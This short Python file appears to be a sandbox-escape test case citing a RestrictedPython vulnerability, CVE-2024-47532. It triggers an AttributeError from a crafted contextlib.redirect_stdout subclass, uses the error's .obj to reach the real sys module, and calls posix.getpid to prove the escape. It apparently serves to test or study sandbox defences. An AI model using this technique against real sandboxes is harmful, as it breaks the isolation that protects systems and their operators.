# technique: an attribute that sys lacks: the error's .obj is the real sys
# goal: import
# source: RestrictedPython, CVE-2024-47532
import contextlib


class Redirect(contextlib.redirect_stdout):
    _stream = 'nothing'


try:
    Redirect(None).__enter__()
except AttributeError as error:
    print('ESCAPED pid=%d' % error.obj.modules['posix'].getpid())
